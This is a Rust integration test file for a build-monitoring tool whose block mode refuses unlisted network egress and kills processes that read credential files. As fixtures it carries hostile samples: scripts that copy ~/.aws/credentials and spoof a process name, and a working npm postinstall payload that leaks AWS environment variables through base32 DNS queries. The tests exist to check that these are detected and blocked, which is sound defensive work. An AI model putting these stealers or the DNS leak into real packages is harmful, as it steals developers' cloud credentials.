//! Block mode: egress outside the allowlist refused in the kernel (cgroup connect and sendmsg
//! hooks → EPERM) for IPv4, IPv6 and IPv4-mapped destinations, TCP, UDP, TCP Fast Open and
//! io_uring connects, each refusal an event and a finding. Everything on loopback: the policy
//! turns loopback's default allowance off, so loopback addresses stand for the outside.

use std::{fs, net::TcpListener};

use buildwatch_tests::{
    dnsmasq::{Dnsmasq, RESOLVER, ROGUE, SVC_ADDR, resolv_ns},
    *,
};

const TRIGGER: &str = env!("CARGO_BIN_EXE_bw-trigger");

/// Tries every kind of egress; prints `NAME RESULT` per line (`ok` or the errno name).
const CLIENT: &str = r#"
import errno, socket, sys
port = int(sys.argv[1])
def tcp(fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(addr)
        return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    finally:
        s.close()
print("v4-allowed", tcp(socket.AF_INET, ("127.0.0.40", port)))
print("v4-other-port", tcp(socket.AF_INET, ("127.0.0.40", port + 1)))
print("v4-other-host", tcp(socket.AF_INET, ("127.0.0.41", port)))
print("v6", tcp(socket.AF_INET6, ("::1", port)))
print("mapped-allowed", tcp(socket.AF_INET6, ("::ffff:127.0.0.40", port)))
print("mapped-other", tcp(socket.AF_INET6, ("::ffff:127.0.0.42", port)))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("127.0.0.43", 9))
    print("udp ok")
except OSError as e:
    print("udp", errno.errorcode.get(e.errno, str(e.errno)))
"#;

fn results(stdout: &str) -> std::collections::BTreeMap<String, String> {
    stdout
        .lines()
        .filter_map(|l| {
            let (k, v) = l.split_once(' ')?;
            Some((k.to_owned(), v.trim().to_owned()))
        })
        .collect()
}

fn script(tmp: &TempDir, port: u16) -> String {
    let client = tmp.join("client.py");
    fs::write(&client, CLIENT).unwrap();
    format!(
        "python3 {} {port}; {TRIGGER} tfo 127.0.0.44 {port}; {TRIGGER} uring-connect 127.0.0.45 {port}",
        client.display()
    )
}

#[test]
fn block_mode_refuses_egress_outside_the_allowlist_in_the_kernel() {
    if !require_bpf() {
        return;
    }
    let listener = TcpListener::bind("127.0.0.40:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let tmp = TempDir::new("block");
    let policy = tmp.join("policy.yaml");
    fs::write(
        &policy,
        format!("mode: block\nallow_loopback: false\nallow:\n  - 127.0.0.40:{port}\n"),
    )
    .unwrap();
    let report = tmp.join("report.json");
    let r = run_watched(
        &tmp,
        &[
            "--policy",
            policy.to_str().unwrap(),
            "--report",
            report.to_str().unwrap(),
        ],
        &["sh", "-c", &script(&tmp, port)],
    );
    let out = r.stdout();
    let got = results(&out);
    assert_eq!(got["v4-allowed"], "ok", "{out}\n{}", r.stderr());
    assert_eq!(got["mapped-allowed"], "ok", "{out}");
    for refused in ["v4-other-port", "v4-other-host", "v6", "mapped-other"] {
        assert_eq!(got[refused], "EPERM", "{refused}: {out}");
    }
    assert_eq!(got["udp"], "EPERM", "{out}");
    assert!(
        out.contains("sendto -1 Operation not permitted"),
        "TCP Fast Open: {out}"
    );
    assert!(out.contains("uring-connect -1\n"), "io_uring: {out}");
    // Every refusal is an event, with the kernel's address.
    let refused: Vec<String> = r
        .events
        .iter()
        .filter(|e| e["connect"]["refused"] == true || e["send"]["refused"] == true)
        .map(|e| {
            let d = if e["kind"] == "connect" {
                &e["connect"]
            } else {
                &e["send"]
            };
            format!("{}:{}", d["address"].as_str().unwrap_or(""), d["port"])
        })
        .collect();
    for want in [
        format!("127.0.0.40:{}", port + 1),
        format!("127.0.0.41:{port}"),
        format!("::1:{port}"),
        format!("127.0.0.42:{port}"),
        "127.0.0.43:9".to_owned(),
        format!("127.0.0.44:{port}"),
        format!("127.0.0.45:{port}"),
    ] {
        assert!(refused.contains(&want), "{want} not refused: {refused:?}");
    }
    assert!(
        !refused.iter().any(|d| d == &format!("127.0.0.40:{port}")),
        "the allowed destination was refused: {refused:?}"
    );
    // And a finding: high, failing the run, one per destination.
    let rep: Value = serde_json::from_str(&fs::read_to_string(&report).unwrap()).unwrap();
    let findings: Vec<&Value> = rep["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "egress-refused")
        .collect();
    assert!(findings.len() >= 7, "{findings:#?}");
    assert!(findings.iter().all(|f| f["severity"] == "high"));
    assert!(
        !rep["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "egress-unlisted"),
        "a refused destination is not also reported as reached"
    );
    assert_eq!(r.code(), Some(86), "{}", r.stderr());
    assert!(
        r.stderr()
            .contains("block mode: egress outside the allowlist is refused")
    );
    drop(listener);
}

/// Without block mode the same attempts go through (or fail on their own): nothing refused.
#[test]
fn watch_mode_refuses_nothing() {
    if !require_bpf() {
        return;
    }
    let listener = TcpListener::bind("127.0.0.40:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let tmp = TempDir::new("block-watch");
    let policy = tmp.join("policy.yaml");
    fs::write(
        &policy,
        format!("allow_loopback: false\nallow:\n  - 127.0.0.40:{port}\nfail_on: never\n"),
    )
    .unwrap();
    let r = run_watched(
        &tmp,
        &["--policy", policy.to_str().unwrap()],
        &["sh", "-c", &script(&tmp, port)],
    );
    let out = r.stdout();
    let got = results(&out);
    assert_eq!(got["v4-allowed"], "ok", "{out}");
    assert_eq!(got["v4-other-port"], "ECONNREFUSED", "{out}");
    assert_eq!(got["udp"], "ok", "{out}");
    assert!(
        !r.events
            .iter()
            .any(|e| e["connect"]["refused"] == true || e["send"]["refused"] == true)
    );
    drop(listener);
}

/// Block mode with domain entries is not started half enforced.
/// The DNS-layer policy with a real resolver (dnsmasq on loopback, named by the run's
/// resolv.conf in a private mount namespace): an allowed name resolves through buildwatch's
/// proxy and opens its address on the entry's port only; names outside the allowlist, a
/// DNS-over-HTTPS service, a direct query to another resolver, DNS over TLS and a hard-coded
/// address are refused, and the refused queries never reach the resolver.
#[test]
fn block_mode_dns_goes_through_the_proxy_and_opens_only_allowed_answers() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("block-dns");
    let _dns = Dnsmasq::start(&tmp);
    let listener = TcpListener::bind(format!("{SVC_ADDR}:0")).unwrap();
    let port = listener.local_addr().unwrap().port();
    let policy = tmp.join("policy.yaml");
    fs::write(
        &policy,
        format!("mode: block\nallow_loopback: false\nallow:\n  - \"**.svc.test:{port}\"\n  - \"dns.google\"\n"),
    )
    .unwrap();
    let client = tmp.join("client.py");
    fs::write(
        &client,
        format!(
            r#"
import errno, socket, subprocess
def err(e):
    return errno.errorcode.get(e.errno, str(e.errno)) if isinstance(e, OSError) and e.errno else type(e).__name__
def tcp(addr, port):
    s = socket.socket(); s.settimeout(2)
    try:
        s.connect((addr, port)); return "ok"
    except OSError as e:
        return err(e)
    finally:
        s.close()
def lookup(name):
    try:
        return socket.getaddrinfo(name, {port}, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
    except socket.gaierror as e:
        return "gaierror"
addr = lookup("ok.svc.test")
print("allowed-lookup", addr)
print("allowed-connect", tcp(addr, {port}))
print("other-port", tcp(addr, {port} + 1))
print("hard-coded", tcp("127.0.0.6", {port}))
print("exfil-lookup", lookup("mfrggzdfmfrggzdf.exfil.test"))
print("unlisted-lookup", lookup("other.example"))
dig = lambda *a: subprocess.run(["dig", "+short", "+time=2", "+tries=1", *a], capture_output=True, text=True).stdout.strip() or "none"
print("tcp-lookup", dig("+tcp", "tcp.svc.test"))
print("doh-lookup", dig("dns.google"))
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05rogue\x03svc\x04test\x00\x00\x01\x00\x01"
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(q, ("{ROGUE}", 53)); print("rogue-resolver ok")
except OSError as e:
    print("rogue-resolver", err(e))
print("dot", tcp("{RESOLVER}", 853))
print("rogue-tcp", tcp("{ROGUE}", 53))
"#
        ),
    )
    .unwrap();
    let ns = resolv_ns(&tmp);
    let ns: Vec<&str> = ns.iter().map(String::as_str).collect();
    let w = watch_via(
        &tmp,
        tmp.path(),
        &[],
        &ns,
        &["--policy", policy.to_str().unwrap()],
        &["python3", client.to_str().unwrap()],
    );
    let out = String::from_utf8_lossy(&w.out.stdout).into_owned();
    let got = results(&out);
    let err = w.stderr();
    assert_eq!(got["allowed-lookup"], SVC_ADDR, "{out}\n{err}");
    assert_eq!(got["allowed-connect"], "ok", "{out}");
    assert_eq!(
        got["other-port"], "EPERM",
        "the answer opened the entry's port only: {out}"
    );
    assert_eq!(got["hard-coded"], "EPERM", "{out}");
    assert_eq!(got["exfil-lookup"], "gaierror", "{out}");
    assert_eq!(got["unlisted-lookup"], "gaierror", "{out}");
    assert_eq!(
        got["tcp-lookup"], SVC_ADDR,
        "DNS over TCP through the proxy: {out}"
    );
    assert_eq!(got["doh-lookup"], "none", "a DoH service's name: {out}");
    assert_eq!(got["rogue-resolver"], "EPERM", "{out}");
    assert_eq!(got["dot"], "EPERM", "{out}");
    assert_eq!(
        got["rogue-tcp"], "EPERM",
        "DNS over TCP to another resolver: {out}"
    );
    // The resolver saw the allowed names and none of the refused ones: they never left.
    let log = fs::read_to_string(tmp.join("dnsmasq.log")).unwrap();
    let asked: Vec<&str> = log.lines().filter(|l| l.contains("query[")).collect();
    for allowed in ["] ok.svc.test ", "] tcp.svc.test "] {
        assert!(
            asked.iter().any(|l| l.contains(allowed)),
            "{allowed}: {asked:#?}"
        );
    }
    for refused in [
        "exfil.test",
        "other.example",
        "dns.google",
        "rogue.svc.test",
    ] {
        assert!(
            !asked.iter().any(|l| l.contains(refused)),
            "{refused} reached the resolver: {asked:#?}"
        );
    }
    // The refused queries are findings, and the query-shape rules judged them too.
    let rules = w.finding_rules();
    assert!(rules.contains(&"dns-refused".to_owned()), "{rules:?}");
    let refused_names: Vec<&str> = w.report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "dns-refused")
        .filter_map(|f| f["detail"]["qname"].as_str())
        .collect();
    for name in ["mfrggzdfmfrggzdf.exfil.test", "other.example", "dns.google"] {
        assert!(refused_names.contains(&name), "{name}: {refused_names:?}");
    }
    assert!(!refused_names.contains(&"ok.svc.test"), "{refused_names:?}");
    // Connections to the resolver went to the proxy; the rest were refused, with their
    // addresses.
    let egress = w.report["egress"].as_array().unwrap();
    assert!(
        egress
            .iter()
            .any(|e| e["address"] == RESOLVER && e["port"] == 53 && e["redirected"] == true),
        "{egress:#?}"
    );
    for (addr, p) in [(ROGUE, 53), (RESOLVER, 853), ("127.0.0.6", u64::from(port))] {
        assert!(
            egress
                .iter()
                .any(|e| e["address"] == addr && e["port"] == p && e["refused"] == true),
            "{addr}:{p} refused: {egress:#?}"
        );
    }
    assert!(err.contains("DNS goes through buildwatch's proxy"), "{err}");
    assert!(err.contains("block mode's DNS proxy:"), "{err}");
    assert_eq!(w.out.status.code(), Some(86), "{err}");
    drop(listener);
}

/// The proxy's upstream on a port other than 53 is refused to the run (loopback allowed or
/// not): the run cannot ask it past the proxy. The next port of the same address is not.
#[test]
fn block_mode_refuses_the_proxys_upstream_to_the_run() {
    if !require_bpf() {
        return;
    }
    let upstream = TcpListener::bind("127.0.0.79:0").unwrap();
    let other = TcpListener::bind("127.0.0.79:0").unwrap();
    let (pu, po) = (
        upstream.local_addr().unwrap().port(),
        other.local_addr().unwrap().port(),
    );
    let tmp = TempDir::new("block-upstream");
    let policy = tmp.join("policy.yaml");
    fs::write(
        &policy,
        format!("mode: block\nfail_on: never\ndns:\n  upstream: [\"127.0.0.79:{pu}\"]\n"),
    )
    .unwrap();
    let client = tmp.join("client.py");
    fs::write(
        &client,
        "import socket, sys\n\
         for port in sys.argv[1:]:\n\
         \x20   s = socket.socket(); s.settimeout(2)\n\
         \x20   print(port, s.connect_ex(('127.0.0.79', int(port))))\n",
    )
    .unwrap();
    let r = run_watched(
        &tmp,
        &["--policy", policy.to_str().unwrap()],
        &[
            "python3",
            client.to_str().unwrap(),
            &pu.to_string(),
            &po.to_string(),
        ],
    );
    let out = r.stdout();
    assert!(
        out.contains(&format!("{pu} 1\n")),
        "the upstream: EPERM: {out}\n{}",
        r.stderr()
    );
    assert!(
        out.contains(&format!("{po} 0\n")),
        "loopback otherwise: {out}"
    );
    drop((upstream, other));
}

/// What no socket hook can refuse is killed in block mode before the call returns to user
/// space: reading another process's memory, ptrace, and sudo. The run says which, and fails.
#[test]
fn block_mode_kills_memory_reads_ptrace_and_sudo() {
    if !require_bpf() {
        return;
    }
    let mut victim = std::process::Command::new("sleep")
        .arg("30")
        .spawn()
        .unwrap();
    let tmp = TempDir::new("block-kill");
    let policy = tmp.join("policy.yaml");
    fs::write(&policy, "mode: block\n").unwrap();
    let run = |cmd: &str| {
        run_watched(
            &tmp,
            &["--policy", policy.to_str().unwrap(), "--fail-on", "never"],
            &["sh", "-c", cmd],
        )
    };
    // process_vm_readv of a process outside the run: killed before it sees the bytes.
    let r = run(&format!("{TRIGGER} peek {}; echo status $?", victim.id()));
    assert!(r.stdout().contains("status 137"), "{}", r.stdout());
    let vm = r
        .of_kind("process_vm")
        .next()
        .unwrap_or_else(|| panic!("no process_vm event: {}", r.stderr()));
    assert_eq!(vm["process_vm"]["killed"], true, "{vm:#}");
    // ptrace of its own child (a debugger's business, refused in block mode all the same).
    let r = run(&format!("{TRIGGER} peek-child; echo status $?"));
    assert!(r.stdout().contains("status 137"), "{}", r.stdout());
    let pt = r.of_kind("ptrace").next().expect("a ptrace event");
    assert_eq!(pt["ptrace"]["killed"], true, "{pt:#}");
    // sudo: the new image dies before it runs.
    let r = run("sudo -n true; echo status $?");
    assert!(r.stdout().contains("status 137"), "{}", r.stdout());
    let ex = r
        .of_kind("exec")
        .find(|e| e["exec"]["path"] == "/usr/bin/sudo")
        .expect("the sudo exec");
    assert_eq!(ex["exec"]["killed"], true, "{ex:#}");
    // Without block mode the same sudo runs.
    let w = run_watched(
        &tmp,
        &["--fail-on", "never"],
        &["sh", "-c", "sudo -n true; echo status $?"],
    );
    assert!(w.stdout().contains("status 0"), "{}", w.stdout());
    let _ = victim.kill();
    let _ = victim.wait();
}

/// Block mode kills a process that opens a credential file it does not own for reading, after
/// the open and before it returns to user space: it never gets a byte, by the file's path or
/// by a hard link made before the run. The file's own tool (a script named `aws`) reads it.
/// Without block mode the same read succeeds (and is a finding).
#[test]
fn block_mode_kills_a_stranger_reading_a_credential_file_before_it_gets_a_byte() {
    if !require_bpf() {
        return;
    }
    const KEY: &str = "AKIAKILLTESTKILLTEST";
    let tmp = TempDir::new("block-guard");
    let home = tmp.join("home");
    fs::create_dir_all(home.join(".aws")).unwrap();
    let creds = home.join(".aws/credentials");
    fs::write(&creds, format!("[default]\naws_access_key_id = {KEY}\n")).unwrap();
    fs::hard_link(&creds, tmp.join("innocent.txt")).unwrap();
    let bin = tmp.join("bin");
    fs::create_dir_all(&bin).unwrap();
    // The owner: its kernel name is `aws`, and it reads with the shell's own `read`.
    let aws = bin.join("aws");
    fs::write(
        &aws,
        "#!/bin/sh\nwhile IFS= read -r l; do echo \"aws: $l\"; done < \"$HOME/.aws/credentials\"\n",
    )
    .unwrap();
    fs::set_permissions(&aws, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    // An owner started through env (`#!/usr/bin/env python3`): it runs as python3, and was
    // executed as `npm` one exec before.
    fs::write(
        home.join(".npmrc"),
        "//registry.example/:_authToken=npm_FAKETOKEN\n",
    )
    .unwrap();
    let npm = bin.join("npm");
    fs::write(
        &npm,
        "#!/usr/bin/env python3\nimport os\nprint('npm:', open(os.path.expanduser('~/.npmrc')).read().strip())\n",
    )
    .unwrap();
    fs::set_permissions(&npm, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let steal = tmp.join("steal.py");
    fs::write(
        &steal,
        "import os, sys\n\
         data = open(sys.argv[1]).read()\n\
         open(sys.argv[2], 'w').write(data)\n",
    )
    .unwrap();
    // A stealer that names itself `aws` (prctl PR_SET_NAME) before it reads.
    let renamed = tmp.join("renamed.py");
    fs::write(
        &renamed,
        "import ctypes, sys\n\
         ctypes.CDLL(None).prctl(15, b'aws', 0, 0, 0)\n\
         open(sys.argv[2], 'w').write(open(sys.argv[1]).read())\n",
    )
    .unwrap();
    let got = |name: &str| fs::read_to_string(tmp.join(name)).unwrap_or_default();
    let script = format!(
        "python3 {steal} {creds} {out1}; echo \"steal $?\"; \
         python3 {steal} {link} {out2}; echo \"link $?\"; \
         {aws}; echo \"aws $?\"; {npm}; echo \"npm $?\"; \
         python3 {steal} {npmrc} {out3}; echo \"npmrc $?\"; \
         python3 {renamed} {creds} {out4}; echo \"renamed $?\"",
        steal = steal.display(),
        creds = creds.display(),
        link = tmp.join("innocent.txt").display(),
        out1 = tmp.join("stolen.txt").display(),
        out2 = tmp.join("stolen-by-link.txt").display(),
        aws = aws.display(),
        npm = npm.display(),
        npmrc = home.join(".npmrc").display(),
        out3 = tmp.join("stolen-npmrc.txt").display(),
        renamed = renamed.display(),
        out4 = tmp.join("stolen-renamed.txt").display(),
    );
    let env = [("HOME", home.display().to_string())];
    let policy = tmp.join("policy.yaml");
    fs::write(&policy, "mode: block\nfail_on: never\n").unwrap();
    let w = watch(
        &tmp,
        tmp.path(),
        &env,
        &["--policy", policy.to_str().unwrap()],
        &["sh", "-c", &script],
    );
    let out = String::from_utf8_lossy(&w.out.stdout).into_owned();
    assert!(out.contains("steal 137"), "{out}\n{}", w.stderr());
    assert!(out.contains("link 137"), "{out}");
    assert!(
        !got("stolen.txt").contains(KEY),
        "the stealer got the bytes"
    );
    assert!(
        !got("stolen-by-link.txt").contains(KEY),
        "the hard link got the bytes"
    );
    assert!(
        out.contains(&format!("aws: aws_access_key_id = {KEY}")),
        "{out}"
    );
    assert!(out.contains("aws 0"), "{out}");
    assert!(
        out.contains("npm: //registry.example/:_authToken=npm_FAKETOKEN"),
        "{out}"
    );
    assert!(out.contains("npm 0"), "{out}");
    assert!(out.contains("npmrc 137"), "{out}");
    assert!(!got("stolen-npmrc.txt").contains("FAKETOKEN"));
    assert!(
        out.contains("renamed 137"),
        "a name it gave itself is not an owner's: {out}"
    );
    assert!(!got("stolen-renamed.txt").contains(KEY));
    assert!(
        w.stderr().contains("credential file(s) guarded"),
        "{}",
        w.stderr()
    );
    let killed: Vec<Value> = w
        .events()
        .into_iter()
        .filter(|e| e["kind"] == "open" && e["open"]["killed"] == true)
        .collect();
    assert_eq!(killed.len(), 4, "{killed:#?}");
    assert!(
        w.finding_rules()
            .contains(&"sensitive-file-read".to_owned()),
        "{:?}",
        w.finding_rules()
    );
    // Watch mode: the same read goes through (and is reported).
    fs::write(&policy, "fail_on: never\n").unwrap();
    let w = watch(
        &tmp,
        tmp.path(),
        &env,
        &["--policy", policy.to_str().unwrap()],
        &["sh", "-c", &script],
    );
    let out = String::from_utf8_lossy(&w.out.stdout).into_owned();
    assert!(out.contains("steal 0"), "{out}");
    assert!(got("stolen.txt").contains(KEY));
    assert!(
        w.finding_rules()
            .contains(&"sensitive-file-read".to_owned())
    );
}

/// A clean run's learned policy is what block mode needs: the same build passes under it, and
/// the same build with one more destination (a new, malicious dependency) fails.
#[test]
fn a_learned_policy_passes_the_same_build_in_block_mode_and_fails_a_new_destination() {
    if !require_bpf() {
        return;
    }
    let a = TcpListener::bind("127.0.0.40:0").unwrap();
    let b = TcpListener::bind("127.0.0.41:0").unwrap();
    let (pa, pb) = (
        a.local_addr().unwrap().port(),
        b.local_addr().unwrap().port(),
    );
    let tmp = TempDir::new("block-learn");
    let client = tmp.join("client.py");
    fs::write(
        &client,
        "import socket, sys\n\
         for host, port in zip(sys.argv[1::2], sys.argv[2::2]):\n\
         \x20   s = socket.socket(); s.settimeout(2)\n\
         \x20   print(host, s.connect_ex((host, int(port))))\n",
    )
    .unwrap();
    let build = |extra: &str| {
        format!(
            "python3 {} 127.0.0.40 {pa} 127.0.0.41 {pb} {extra}",
            client.display()
        )
    };
    // The clean run, watched with loopback's allowance off: it learns both destinations.
    let base = tmp.join("base.yaml");
    fs::write(&base, "allow_loopback: false\nfail_on: never\n").unwrap();
    let learned = tmp.join("learned.yaml");
    let r = run_watched(
        &tmp,
        &[
            "--policy",
            base.to_str().unwrap(),
            "--learn",
            learned.to_str().unwrap(),
        ],
        &["sh", "-c", &build("")],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let text = fs::read_to_string(&learned).unwrap();
    assert!(text.contains("allow_loopback: false"), "{text}");
    assert!(text.contains(&format!("- \"127.0.0.40:{pa}\"")), "{text}");
    assert!(text.contains(&format!("- \"127.0.0.41:{pb}\"")), "{text}");
    // Each entry says who needed it (the tool: the script python ran).
    assert!(text.contains("# needed by client"), "{text}");
    // The same build in block mode under it: passes, nothing refused.
    let block = tmp.join("block.yaml");
    fs::write(&block, format!("mode: block\n{text}")).unwrap();
    let r = run_watched(
        &tmp,
        &["--policy", block.to_str().unwrap()],
        &["sh", "-c", &build("")],
    );
    assert_eq!(r.code(), Some(0), "{}\n{}", r.stdout(), r.stderr());
    assert!(r.stdout().contains("127.0.0.40 0") && r.stdout().contains("127.0.0.41 0"));
    // With one more destination: refused, and the run fails.
    let r = run_watched(
        &tmp,
        &["--policy", block.to_str().unwrap()],
        &["sh", "-c", &build(&format!("127.0.0.42 {pa}"))],
    );
    assert_eq!(r.code(), Some(86), "{}", r.stderr());
    assert!(r.stdout().contains("127.0.0.42 1"), "EPERM: {}", r.stdout());
    assert!(r.stderr().contains("egress-refused"), "{}", r.stderr());
    drop((a, b));
}

/// Leaks every AWS_* variable through DNS: base32 labels under exfil.test, looked up through
/// the system's resolver (as the seed's backdoored patch release does).
const LEAK_JS: &str = r#"
const dns = require('dns');
const secret = Object.keys(process.env).filter(k => k.startsWith('AWS_'))
  .map(k => k + '=' + process.env[k]).join(';');
const A = 'abcdefghijklmnopqrstuvwxyz234567';
let bits = '', out = '';
for (const b of Buffer.from(secret)) bits += b.toString(2).padStart(8, '0');
for (let i = 0; i < bits.length; i += 5) out += A[parseInt(bits.slice(i, i + 5).padEnd(5, '0'), 2)];
const chunks = out.match(/.{1,40}/g) || [];
let left = chunks.length;
chunks.forEach((c, i) => dns.lookup(`${c}.${i}.exfil.test`, () => { if (--left === 0) process.exit(0); }));
setTimeout(() => process.exit(0), 5000);
"#;

/// `buildwatch diff --format json BASELINE NEW`: the entry of `package`.
fn diff_entry(baseline: &std::path::Path, new: &std::path::Path, package: &str) -> Value {
    let out = std::process::Command::new(buildwatch_bin())
        .args(["diff", "--format", "json"])
        .args([baseline, new])
        .output()
        .unwrap();
    let d: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    d.as_array()
        .unwrap()
        .iter()
        .find(|p| p["package"] == package)
        .unwrap_or_else(|| panic!("{package} in the diff of {}: {d:#}", baseline.display()))
        .clone()
}

fn asks_dns_about(entry: &Value, domain: &str) -> bool {
    entry["dns"]
        .as_array()
        .is_some_and(|a| a.iter().any(|x| x == domain))
}

/// The seed's story end to end, with real npm and a local registry: `formatter-util` 1.2.1 is
/// benign; 1.2.2 leaks the AWS_* variables through DNS queries. The diff of the two runs
/// names the package, the version change and the new DNS behaviour; under the policy learned
/// from the clean run, block mode refuses the leak (no query reaches the resolver) while the
/// install itself succeeds.
#[test]
fn the_seed_story_diff_names_the_patch_release_and_block_mode_stops_its_leak() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("block-seed");
    let _dns = Dnsmasq::start(&tmp);
    let registry = buildwatch_tests::registry::LocalRegistry::start();
    let home = tmp.join("home");
    fs::create_dir_all(&home).unwrap();
    let mut env = npm_env(&home);
    env.retain(|(k, _)| *k != "npm_config_offline" && *k != "npm_config_registry");
    env.push(("npm_config_registry", registry.url()));
    env.push(("npm_config_prefer_online", "true".into()));
    env.push(("AWS_ACCESS_KEY_ID", "AKIAFAKEFAKEFAKEFAKE".into()));
    env.push(("AWS_SECRET_ACCESS_KEY", "fake/secret/for/tests/only".into()));
    let scripts = serde_json::json!({"postinstall": "node install.js"});
    let publish = |version: &str, js: &str| {
        let tgz = npm_package(
            &tmp,
            "formatter-util",
            version,
            &[("install.js", js)],
            scripts.clone(),
        );
        registry.publish("formatter-util", version, &tgz, scripts.clone());
    };
    let ns = resolv_ns(&tmp);
    let ns: Vec<&str> = ns.iter().map(String::as_str).collect();
    let install = |name: &str, extra: &[&str]| {
        let proj = tmp.join(name);
        fs::create_dir_all(&proj).unwrap();
        // `pinned`: the clean release, exactly; otherwise the newest 1.x.
        let spec = if name == "pinned" { "1.2.1" } else { "^1.2.0" };
        fs::write(
            proj.join("package.json"),
            format!(
                r#"{{"name":"app","version":"1.0.0","private":true,
                    "dependencies":{{"formatter-util":"{spec}"}}}}"#
            ),
        )
        .unwrap();
        let w = watch_via(&tmp, &proj, &env, &ns, extra, &["npm", "install"]);
        let installed: Value = serde_json::from_str(
            &fs::read_to_string(proj.join("node_modules/formatter-util/package.json"))
                .unwrap_or_else(|e| panic!("{name}: not installed ({e}): {}", w.stderr())),
        )
        .unwrap();
        (w, installed["version"].as_str().unwrap_or("").to_owned())
    };
    let base = tmp.join("base.yaml");
    fs::write(&base, "allow_loopback: false\nfail_on: never\n").unwrap();
    let learned = tmp.join("learned.yaml");

    // 1.2.1: the clean run, which learns its policy.
    publish("1.2.1", "require('fs').readFileSync(__filename);\n");
    let (w, v) = install(
        "clean",
        &[
            "--policy",
            base.to_str().unwrap(),
            "--learn",
            learned.to_str().unwrap(),
        ],
    );
    assert_eq!(v, "1.2.1");
    assert_eq!(w.report["exit_code"], 0, "{}", w.stderr());
    let clean = tmp.join("clean.json");
    fs::write(&clean, w.report.to_string()).unwrap();

    // 1.2.2 is published: the same install, watched, leaks.
    publish("1.2.2", LEAK_JS);
    let (w, v) = install("leaky", &["--policy", base.to_str().unwrap()]);
    assert_eq!(v, "1.2.2");
    assert_eq!(w.report["exit_code"], 0, "{}", w.stderr());
    let leaky = tmp.join("leaky.json");
    fs::write(&leaky, w.report.to_string()).unwrap();
    let log = fs::read_to_string(tmp.join("dnsmasq.log")).unwrap();
    assert!(
        log.lines()
            .any(|l| l.contains("query[") && l.contains(".exfil.test")),
        "watched, the leak reaches the resolver: {log}"
    );
    let exfil = w.report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["category"] == "dns-exfil")
        .unwrap_or_else(|| panic!("a dns-exfil finding: {}", w.stderr()))
        .clone();
    assert_eq!(exfil["package"]["name"], "formatter-util", "{exfil:#}");
    assert_eq!(exfil["package"]["version"], "1.2.2", "{exfil:#}");

    // The diff: the package, the version change, the new DNS behaviour.
    let pkg = diff_entry(&clean, &leaky, "formatter-util");
    assert_eq!(pkg["before"], serde_json::json!(["1.2.1"]), "{pkg:#}");
    assert_eq!(pkg["after"], serde_json::json!(["1.2.2"]), "{pkg:#}");
    assert!(asks_dns_about(&pkg, "exfil.test"), "{pkg:#}");
    assert!(
        pkg["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f.as_str().is_some_and(|f| f.starts_with("dns-exfil: "))),
        "{pkg:#}"
    );
    let out = std::process::Command::new(buildwatch_bin())
        .args(["diff", "--fail-on-new"])
        .args([&clean, &leaky])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(86));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("formatter-util 1.2.1 → 1.2.2"),
        "{out:?}"
    );

    // The learned policy is a baseline too: what 1.2.2 does that it does not allow.
    let pkg = diff_entry(&learned, &leaky, "formatter-util");
    assert_eq!(pkg["after"], serde_json::json!(["1.2.2"]), "{pkg:#}");
    assert!(asks_dns_about(&pkg, "exfil.test"), "{pkg:#}");

    // Block mode under the learned policy: npm installs 1.2.2, the leak is refused at the
    // DNS layer and never reaches the resolver, and the run fails.
    let text = fs::read_to_string(&learned).unwrap();
    assert!(
        text.contains(&format!("127.0.0.1:{}", registry.port)),
        "{text}"
    );
    let block = tmp.join("block.yaml");
    fs::write(&block, format!("mode: block\n{text}")).unwrap();
    // The same clean build under it passes: nothing refused, nothing found.
    let (w, v) = install("pinned", &["--policy", block.to_str().unwrap()]);
    assert_eq!(v, "1.2.1");
    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
    assert!(w.finding_rules().is_empty(), "{:?}", w.finding_rules());
    let before = fs::read_to_string(tmp.join("dnsmasq.log")).unwrap().len();
    let (w, v) = install("blocked", &["--policy", block.to_str().unwrap()]);
    assert_eq!(v, "1.2.2");
    assert_eq!(
        w.report["exit_code"],
        0,
        "the rest of the build succeeds: {}",
        w.stderr()
    );
    let log = fs::read_to_string(tmp.join("dnsmasq.log")).unwrap();
    assert!(
        !log[before..].contains("exfil.test"),
        "in block mode the leak never reaches the resolver: {}",
        &log[before..]
    );
    let refused: Vec<&Value> = w.report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "dns-refused")
        .collect();
    assert!(!refused.is_empty(), "{}", w.stderr());
    assert!(
        refused
            .iter()
            .all(|f| f["package"]["name"] == "formatter-util"),
        "{refused:#?}"
    );
    assert!(
        w.finding_rules().iter().any(|r| r.starts_with("dns-")),
        "the query-shape rules judged the refused queries"
    );
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
}

/// pip's learn → block round trip, with real pip reading a simple index on loopback and
/// building an sdist (a C extension): the learned policy passes the same install in block
/// mode; the next release, whose build reaches one more address, is refused there and fails.
#[test]
fn pip_learn_then_block_passes_the_same_install_and_refuses_a_new_destination() {
    if !require_bpf() {
        return;
    }
    let tmp = TempDir::new("block-pip");
